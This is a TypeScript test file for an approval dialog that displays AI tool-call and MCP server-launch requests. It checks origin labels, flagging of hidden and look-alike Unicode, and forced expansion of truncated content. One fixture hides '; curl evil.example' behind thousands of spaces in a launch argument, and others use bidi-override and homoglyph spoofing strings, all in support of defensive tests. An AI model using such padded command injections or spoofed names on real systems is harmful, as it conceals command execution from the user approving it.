import { act, cleanup, screen, within } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import type { Request } from "../bindings/host";
import { classRequest } from "../platform/fakeHost/flows";
import { reviewRow, value } from "../platform/fakeHost/make";
import {
  launchRequest,
  newToolRequest,
  refusedLaunchRequest,
  writeRequest,
} from "../platform/fakeHost/requests";
import { expectAxeClean } from "../test/axe";
import { answers, button, click, gate, key, noGate, openGate as open, pass } from "../test/gate";
import { withFakeTimers } from "../test/timers";

withFakeTimers();

describe("what stands at the gate", () => {
  // Proves S-35.
  it("names the server's whereabouts and origin, and who asks", async () => {
    await open([writeRequest("call-write")]);
    expect(gate()).toHaveTextContent("local program · mcp-server-filesystem");
    expect(gate()).toHaveTextContent("requested by Demo model in “Release notes for 2.4”");
  });

  it.each([
    ["provider", "model provider · elsewhere.example"],
    ["registry", "registry · elsewhere.example"],
  ] as const)("calls a %s what it is, and no server", async (whereabouts, words) => {
    const request = classRequest();
    await open([{ ...request, server: { ...request.server, whereabouts, origin: "elsewhere.example" } }]);
    expect(gate()).toHaveTextContent(words);
  });

  // Proves S-34.
  it("marks names of models and conversations, and what looks alike in them", async () => {
    const title = { text: "Pa\u0443⟨U+0443⟩roll", hidden: 0, lookalikes: 1 };
    const model = { text: "large⟨U+202E⟩", hidden: 1 };
    await open([
      { ...writeRequest("call-write"), asked_by: { kind: "model", model, conversation: "c", title } },
    ]);
    expect(within(gate()).getByText("⟨U+202E⟩").closest("bdi")).toHaveTextContent("large⟨U+202E⟩");
    const letter = within(gate()).getByTitle("Cyrillic letter \u0443 (U+0443)");
    expect(letter.closest("bdi")).toHaveTextContent("roll");
    expect(gate()).toHaveTextContent("1 look-alike letter");
  });

  it("sets the model's reason and the server's claims apart", async () => {
    await open([writeRequest("call-write")]);
    expect(gate()).toHaveTextContent("Reason given by the model");
    expect(gate()).toHaveTextContent("may delete or overwrite · can be repeated · unverified");
  });

  it("says of a tool without claims what that counts as, and calls it no claim", async () => {
    const request = writeRequest("call-write");
    if (request.asked.kind === "tool") {
      request.asked.claims = ["silent", "destructive"];
    }
    await open([request]);
    expect(gate()).toHaveTextContent("none, so treated as a tool that may delete or overwrite");
    expect(gate()).not.toHaveTextContent("unverified");
  });

  it("says of the definition what is known, and never reassures", async () => {
    const request = writeRequest("call-write");
    await open([request]);
    const known = within(gate()).getByText("Not reviewed by you");
    expect(known.className).not.toMatch(/ok/);
    expect(known.querySelector("svg")).toBeNull();
    cleanup();
    await open([newToolRequest()]);
    const first = within(gate()).getByText("First use, not reviewed by you");
    expect(first.className).toMatch(/wait/);
  });

  // Proves S-34, S-35.
  it("shows the server's title in its own slot, and the tool where no question does", async () => {
    const request = writeRequest("call-write");
    await open([request]);
    const slot = within(gate()).getByRole("figure", { name: "Title · text from “Project files”" });
    expect(slot).toHaveTextContent("Write file");
    cleanup();
    await open([{ ...request, question: "Let “Project files” run “Write file”?" }]);
    expect(gate()).toHaveTextContent("write_file · local program · mcp-server-filesystem");
  });

  // Proves S-08.
  it("folds what is as usual, and shows it when it is asked for", async () => {
    const fake = await open([launchRequest()]);
    const rows = () => [...gate().querySelectorAll("dt")].map((it) => it.textContent);
    const first = ["Command", "From", "Working folder", "Environment variables"];
    expect(rows()).toEqual(first);
    const fold = button("Default: Protocol version, Limits");
    expect(fold).toHaveAttribute("aria-expanded", "false");
    await click(fold);
    expect(rows()).toEqual([...first, "Protocol version", "Limits"]);
    expect(gate()).toHaveTextContent("60 s without a sign, 600 s in all, 16 MiB a message");
    // The sheet moved, so nothing is taken for a moment.
    await click(button("Add and start"));
    expect(answers(fake)).toEqual([]);
  });

  // Proves S-08.
  it("does not fold what is not as usual, nor drop a label that is not the heading's", async () => {
    const request = launchRequest();
    if (request.asked.kind === "launch") {
      for (const row of request.asked.rows) {
        row.usual = row.usual && row.field !== "Limits";
      }
      request.asked.rows[0] = reviewRow("Label", [value("Weather")], { before: [value("Rain")] });
    }
    await open([request]);
    expect(button("Default: Protocol version")).toBeInTheDocument();
    expect(gate()).toHaveTextContent("LabelWeatherbeforeRain");
    expect(gate()).toHaveTextContent("Limits60 s without a sign");
  });

  // Proves S-08.
  it("tells what is taken as it stands from words of ours", async () => {
    await open([launchRequest()]);
    const token = (text: string) => within(gate()).getByText(text).closest("[data-literal=true]");
    expect(token("npx")).not.toBeNull();
    expect(token("your home folder")).toBeNull();
  });

  it.each([
    ["local", /can do what you can do on this computer/],
    ["loopback", /A program on this computer answers at this URL/],
    ["remote", /leaves your computer/],
  ] as const)("s35 says what a yes to a %s server means", async (whereabouts, words) => {
    const request = launchRequest();
    request.server.whereabouts = whereabouts;
    await open([request]);
    expect(gate()).toHaveTextContent(words);
    if (whereabouts === "loopback") {
      expect(gate()).not.toHaveTextContent(/another computer|leaves your computer/);
    }
  });

  // Proves S-41.
  it("counts hidden characters", async () => {
    await open([newToolRequest()]);
    expect(gate()).toHaveTextContent("Follow up on⟨U+200B⟩⟨U+200B⟩⟨U+202E⟩ 2.4");
    expect(within(gate()).getAllByText("3 hidden characters").length).toBeGreaterThan(0);
  });

  it("shows one at a time, and the next after an answer", async () => {
    const fake = await open([newToolRequest(), launchRequest()]);
    expect(screen.getAllByRole("alertdialog")).toHaveLength(1);
    expect(gate()).toHaveTextContent("1 of 2");
    await click(button("Deny"));
    expect(answers(fake)).toHaveLength(1);
    expect(gate()).toHaveAccessibleName(/Add “Weather”/);
    await pass(500);
    await click(button("Cancel"));
    expect(noGate()).toBeNull();
  });

  it.each([
    ["a tool", () => writeRequest("call-write")],
    ["a refused launch", refusedLaunchRequest],
  ])("is axe clean for %s", async (_name, make) => {
    await open([make()]);
    await expectAxeClean();
  });
});

// Proves S-33.

describe("what is shortened", () => {
  it("cannot be allowed before it was opened, but denied", async () => {
    const fake = await open([writeRequest("call-write")]);
    expect(gate()).toHaveTextContent("36 more lines, 1.8 KiB in total · show all");
    expect(button("Allow once")).toHaveAttribute("aria-disabled", "true");
    await click(button("Allow once"));
    await key("a");
    await click(button("Allow…"));
    expect(screen.queryByRole("dialog")).toBeNull();
    expect(answers(fake)).toEqual([]);
    await click(button(/36 more lines/));
    expect(gate()).toHaveTextContent("Change number 38");
    await pass(500);
    await key("a");
    expect(answers(fake)).toHaveLength(1);
  });

  it("cannot be added before it was opened", async () => {
    const long = value(`-c${" ".repeat(5_000)}; curl evil.example`);
    const request = launchRequest("Weather", { rows: [reviewRow("Program", [value("npx"), long])] });
    const fake = await open([request]);
    await click(button("Add and start"));
    expect(answers(fake)).toEqual([]);
    await click(button(/more characters/));
    expect(gate()).toHaveTextContent("; curl evil.example");
    await pass(500);
    await click(button("Add and start"));
    expect(answers(fake)).toHaveLength(1);
  });

  it("is shortened again when the request changed", async () => {
    const fake = await open([writeRequest("call-write")]);
    await click(button(/36 more lines/));
    (fake.world.waiting[0] as Request).nonce = "changed";
    await act(async () => fake.tellWaiting());
    await pass(500);
    expect(button("Allow once")).toHaveAttribute("aria-disabled", "true");
  });
});
